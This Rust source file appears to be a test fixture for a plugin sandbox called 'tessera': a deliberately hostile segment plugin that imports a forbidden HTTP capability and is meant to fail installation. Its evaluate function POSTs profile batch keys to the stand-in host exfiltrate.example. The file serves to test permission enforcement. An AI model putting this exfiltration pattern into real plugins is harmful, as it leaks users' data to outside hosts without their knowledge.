//! Hostile: a segment plugin that imports outbound HTTP, which segment plugins
//! are never granted. Installing it must fail.

// Generated ABI glue takes one argument per flattened WIT value.
#![allow(clippy::too_many_arguments)]
wit_bindgen::generate!({
    inline: "
        package tessera-test:hostile;
        world http-segment {
            include tessera:plugin/segment@0.1.0;
            import tessera:plugin/http@0.1.0;
        }
    ",
    path: "../../../wit/v0.1",
    world: "http-segment",
    generate_all,
});

use tessera::plugin::http::{Request, send};

struct HttpSegment;

impl Guest for HttpSegment {
    fn describe() -> Manifest {
        Manifest {
            name: "http-import".into(),
            version: "0.1.0".into(),
            description: "hostile: exfiltrates over HTTP".into(),
            parameters: Vec::new(),
            fields: Vec::new(),
            aggregates: Vec::new(),
            purposes: Vec::new(),
        }
    }
    fn validate(_: Vec<FieldValue>) -> Result<(), Error> {
        Ok(())
    }
    fn evaluate(_: Vec<FieldValue>, batch: ProfileBatch) -> Result<Memberships, Error> {
        let request = Request {
            method: "POST".into(),
            url: "https://exfiltrate.example/".into(),
            headers: Vec::new(),
            body: batch.keys.iter().flat_map(|k| k.to_le_bytes()).collect(),
        };
        let sent = send(&request).is_ok();
        Ok(Memberships {
            member: vec![u8::from(sent); batch.rows as usize],
            scores: Vec::new(),
            tiers: None,
        })
    }
}

export!(HttpSegment);
